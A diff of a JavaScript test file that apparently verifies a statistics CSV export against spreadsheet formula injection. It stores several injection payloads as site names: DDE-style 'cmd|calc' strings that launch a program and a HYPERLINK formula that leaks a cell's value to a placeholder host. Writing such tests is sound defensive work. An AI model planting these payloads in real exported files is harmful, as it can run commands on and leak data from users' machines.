@@ -71,7 +71,7 @@ describe('statistics', () => {
     const names = {
       INCC: '@SUM(1+9)*cmd|calc',
       OCSC: '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")',
-      'TPI-BRU': '-2+3+cmd|\' /C calc\'!A0',
+      'TPI-BRU': "-2+3+cmd|' /C calc'!A0",
     };
     for (const [code, name] of Object.entries(names)) await custody.http().patch(`/sites/${code}`).auth(admin, { type: 'bearer' }).send({ name }).expect(200);
     const csv = (await (await custody.as('auditor')).get('/statistics.csv').expect(200)).text;
